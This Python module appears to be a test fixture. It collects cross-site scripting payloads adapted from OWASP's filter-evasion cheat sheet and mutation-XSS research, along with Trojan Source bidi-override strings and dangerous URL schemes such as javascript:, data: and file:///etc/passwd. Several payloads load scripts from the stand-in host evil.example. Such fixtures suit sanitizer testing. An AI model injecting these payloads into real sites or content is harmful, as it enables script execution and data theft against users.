"""Texts made to run scripts in whoever shows them, after OWASP's XSS Filter Evasion Cheat Sheet.

https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html (headings beside each), with some of
html5sec.org and of mutation XSS (Heiderich et al., "mXSS attacks", CCS 2013). Ours: all of them set `window.pwned`,
open a dialog or fetch from `evil.example`, so that a browser tells when one ran.
"""

# ruff: noqa: E501 (a text stands on one line)
from __future__ import annotations

MARK = "pwned"  # the variable of `window` that each sets
ELSEWHERE = "evil.example"  # where some fetch from
RUN = f"window.{MARK}=1"
ALERT = f"{RUN};alert(1)"

TEXTS: tuple[str, ...] = (
    # Basic XSS test without filter evasion; XSS locator (polyglot); malformed tags
    f"<script>{ALERT}</script>",
    f"<SCRIPT SRC=https://{ELSEWHERE}/xss.js></SCRIPT>",
    f"javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+{ALERT}//'>",
    f"<IMG \"\"\"><SCRIPT>{ALERT}</SCRIPT>\">",
    f"<a onmouseover=\"{ALERT}\">xxs link</a>",
    f"<a onmouseover={RUN} href=x>xxs link</a>",
    f"\\<a onmouseover=\"{ALERT}\"\\>xxs link\\</a\\>",
    f"<IMG \"\"\"><SCRIPT>{ALERT}</SCRIPT>\"\\>",
    # Image XSS; fromCharCode; default SRC; on error alert
    f"<IMG SRC=\"javascript:{ALERT};\">",
    f"<IMG SRC=javascript:{RUN}>",
    f"<IMG SRC=JaVaScRiPt:{RUN}>",
    f"<IMG SRC=`javascript:{ALERT}`>",
    f"<IMG SRC=# onmouseover=\"{ALERT}\">",
    f"<IMG SRC= onmouseover=\"{ALERT}\">",
    f"<IMG onmouseover=\"{ALERT}\">",
    f"<IMG SRC=/ onerror=\"{ALERT}\"></img>",
    f"<img src=x onerror=\"{ALERT}\">",
    f"<img src=x:x onerror={RUN}>",
    # Decimal and hexadecimal HTML character references; with and without semicolons
    "<img src=x onerror=\"&#0000119&#0000105&#0000110&#0000100&#0000111&#0000119&#0000046&#0000112&#0000119&#0000110&#0000101&#0000100&#0000061&#0000049\">",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.pwned=1\">Click Me</a>",
    "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058window.pwned=1\">Click Me</a>",
    "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3Awindow.pwned=1\">Click Me</a>",
    # Embedded tab, newline, carriage return, null; spaces and meta characters
    f"<a href=\"jav\tascript:{RUN}\">Click Me</a>",
    f"<a href=\"jav&#x09;ascript:{RUN}\">Click Me</a>",
    f"<a href=\"jav&#x0A;ascript:{RUN}\">Click Me</a>",
    f"<a href=\"jav&#x0D;ascript:{RUN}\">Click Me</a>",
    f"<a href=\"java\0script:{RUN}\">Click Me</a>",
    f"<a href=\" &#14;  javascript:{RUN};\">Click Me</a>",
    # Non-alpha-non-digit; extraneous open brackets; no closing script tags; protocol resolution; half open; double open
    f"<SCRIPT/XSS SRC=\"https://{ELSEWHERE}/xss.js\"></SCRIPT>",
    f"<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`={RUN}>",
    f"<SCRIPT/SRC=\"https://{ELSEWHERE}/xss.js\"></SCRIPT>",
    f"<<SCRIPT>{ALERT};//\\<</SCRIPT>",
    f"<SCRIPT SRC=https://{ELSEWHERE}/xss.js?< B >",
    f"<SCRIPT SRC=//{ELSEWHERE}/.j>",
    f"<IMG SRC=\"x\" onerror=\"{ALERT}\"",
    f"<iframe src=https://{ELSEWHERE}/scriptlet.html <",
    # Escaping JavaScript escapes; end title tag; INPUT, BODY, IMG dynsrc and lowsrc, list-style-image
    f"\\\";{ALERT};//",
    f"</script><script>{ALERT};</script>",
    f"</TITLE><SCRIPT>{ALERT};</SCRIPT>",
    f"</textarea><script>{ALERT}</script>",
    f"</time></h2></a></article></main><script>{ALERT}</script>",
    f"--><script>{ALERT}</script><!--",
    f"]]><script>{ALERT}</script><![CDATA[",
    f"<INPUT TYPE=\"IMAGE\" SRC=\"javascript:{RUN};\">",
    f"<BODY BACKGROUND=\"javascript:{RUN}\">",
    f"<IMG DYNSRC=\"javascript:{RUN}\">",
    f"<IMG LOWSRC=\"javascript:{RUN}\">",
    f"<STYLE>li {{list-style-image: url(\"javascript:{RUN}\");}}</STYLE><UL><LI>XSS</br>",
    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    f"<svg/onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"Set.constructor`{ALERT}```",
    f"<BODY ONLOAD={RUN}>",
    # Event handlers
    f"\" autofocus onfocus={RUN} x=\"",
    f"' autofocus onfocus='{RUN}' x='",
    f"\"><img src=x onerror={RUN}>",
    f"'><img src=x onerror={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror=\"{RUN}\">",
    f"<audio src=x onerror={RUN}>",
    f"<input onfocus={RUN} autofocus>",
    f"<select onfocus={RUN} autofocus>",
    f"<textarea onfocus={RUN} autofocus>",
    f"<marquee onstart={RUN}>",
    f"<body onpageshow={RUN}>",
    f"<div style=\"width:expression({RUN})\">",
    f"<style>@keyframes x{{}}</style><b style=\"animation-name:x\" onanimationstart=\"{RUN}\"></b>",
    # BGSOUND, & JavaScript includes, LINK, STYLE sheets, META, charset
    f"<BGSOUND SRC=\"javascript:{RUN};\">",
    f"<BR SIZE=\"&{{{RUN}}}\">",
    f"<LINK REL=\"stylesheet\" HREF=\"javascript:{RUN};\">",
    f"<LINK REL=\"stylesheet\" HREF=\"https://{ELSEWHERE}/xss.css\">",
    f"<STYLE>@import'https://{ELSEWHERE}/xss.css';</STYLE>",
    f"<META HTTP-EQUIV=\"Link\" Content=\"<https://{ELSEWHERE}/xss.css>; REL=stylesheet\">",
    f"<STYLE>BODY{{-moz-binding:url(\"https://{ELSEWHERE}/xssmoz.xml#xss\")}}</STYLE>",
    f"<XSS STYLE=\"behavior: url(https://{ELSEWHERE}/xss.htc);\">",
    f"¼script¾{RUN}¼/script¾",
    f"<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:{RUN};\">",
    f"<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html,<script>top.{RUN}</script>\">",
    f"<META HTTP-EQUIV=\"refresh\" CONTENT=\"0; URL=https://{ELSEWHERE}/\">",
    # IFRAME, FRAME, TABLE, DIV
    f"<IFRAME SRC=\"javascript:parent.{RUN};\"></IFRAME>",
    f"<IFRAME SRC=# onmouseover=\"{RUN}\"></IFRAME>",
    f"<iframe srcdoc=\"<script>parent.{RUN}</script>\"></iframe>",
    f"<FRAMESET><FRAME SRC=\"javascript:{RUN};\"></FRAMESET>",
    f"<TABLE><TD BACKGROUND=\"javascript:{RUN}\">",
    f"<DIV STYLE=\"background-image: url(https://{ELSEWHERE}/beacon.gif)\">",
    f"<DIV STYLE=\"width: expression({RUN});\">",
    # Downlevel hidden block, BASE, OBJECT, EMBED, XML data islands
    f"<!--[if gte IE 4]><SCRIPT>{ALERT};</SCRIPT><![endif]-->",
    f"<BASE HREF=\"https://{ELSEWHERE}/\">",
    f"<BASE HREF=\"javascript:{RUN};//\">",
    f"<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"https://{ELSEWHERE}/scriptlet.html\"></OBJECT>",
    f"<object data=\"data:text/html,<script>parent.{RUN}</script>\"></object>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InBhcmVudC5wd25lZD0xIi8+\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
    f"<XML ID=\"xss\"><I><B><IMG SRC=\"javas<!-- -->cript:{RUN}\"></B></I></XML>",
    f"<?xml version=\"1.0\"?><html:html xmlns:html='http://www.w3.org/1999/xhtml'><html:script>{ALERT};</html:script></html:html>",
    f"<HTML><BODY><?xml:namespace prefix=\"t\" ns=\"urn:schemas-microsoft-com:time\"><t:set attributeName=\"innerHTML\" to=\"XSS<SCRIPT DEFER>{RUN}</SCRIPT>\"></BODY></HTML>",
    f"<IMG SRC=\"https://{ELSEWHERE}/track.gif?who=reader\">",
    "<? echo('<SCR)'; echo('IPT>window.pwned=1</SCRIPT>'); ?>",
    f"<!--#exec cmd=\"/bin/echo '<SCR'\"--><!--#exec cmd=\"/bin/echo 'IPT SRC=https://{ELSEWHERE}/xss.js></SCRIPT>'\"-->",
    # XSS using HTML quote encapsulation
    f"<SCRIPT a=\">\" SRC=\"https://{ELSEWHERE}/xss.js\"></SCRIPT>",
    f"<SCRIPT =\">\" SRC=\"https://{ELSEWHERE}/xss.js\"></SCRIPT>",
    f"<SCRIPT \"a='>'\" SRC=\"https://{ELSEWHERE}/xss.js\"></SCRIPT>",
    f"<SCRIPT>document.write(\"<SCRI\");</SCRIPT>PT SRC=\"https://{ELSEWHERE}/xss.js\"></SCRIPT>",
    # mutation XSS, SVG and MathML namespaces, templates of other languages
    f"<svg></p><style><a id=\"</style><img src=1 onerror={RUN}>\">",
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={RUN}&gt;\">",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">",
    f"<svg><a xlink:href=\"javascript:{RUN}\"><text x=20 y=20>XSS</text></a></svg>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='{RUN}'/></svg>#x\">",
    f"<form action=\"javascript:{RUN}\"><button autofocus>Send</button></form>",
    f"<button form=f formaction=\"javascript:{RUN}\">X</button>",
    f"<a href=\"https://{ELSEWHERE}/\" target=_blank ping=\"https://{ELSEWHERE}/ping\">Read on</a>",
    "{{constructor.constructor('window.pwned=1')()}} ${window.pwned=1} {% raw %} #{7*7} <%= 7*7 %>",
    # twice escaped, so that one reading too many brings them to life
    f"&lt;script&gt;{ALERT}&lt;/script&gt;",
    f"&amp;lt;img src=x onerror={RUN}&amp;gt;",
    f"&lt;img src=x onerror={RUN}&gt;",
)  # fmt: skip

# Turning the text around them (UAX #9; Boucher and Anderson, "Trojan Source", 2021), or hiding in it.
TURNING: tuple[str, ...] = (
    f"Minister signs order \u202egpj.exe {RUN}",
    f"\u202eA headline that runs backwards {RUN}",
    f"An order \u202d\u202eof two\u202c overrides {RUN}",
    f"A right-to-left embedding \u202bthat is not closed {RUN}",
    f"An isolate \u2067that is not closed {RUN}",
    f"\u2069\u202c\u2069 Closed before it was begun {RUN}",
    f"Marks \u200f\u061c\u200e without a script that needs them {RUN}",
    f"שלום \u202eעולם {RUN}",
    f"مرحبا \u2067\u202bبالعالم\u2069 {RUN}",
    f"Dr\u200bones\ufeff and\u2063 tags \U000e0041\U000e0042 {RUN}",
)
TEXTS += TURNING

# As the address of an item, a page or a feed.
ADDRESSES: tuple[str, ...] = (
    f"javascript:{ALERT}",
    f"JaVaScRiPt:{ALERT}",
    f"  javascript:{ALERT}",
    f"java\tscript:{ALERT}",
    f"java\nscript:{ALERT}",
    f"\x01javascript:{ALERT}",
    f"javascript://www.ledger.example/%0A{ALERT}",
    f"data:text/html,<script>{ALERT}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==",
    'vbscript:msgbox("XSS")',
    f"feed:javascript:{ALERT}",
    f"view-source:javascript:{ALERT}",
    "file:///etc/passwd",
    f"blob:https://{ELSEWHERE}/1",
    f"//{ELSEWHERE}/x",
)
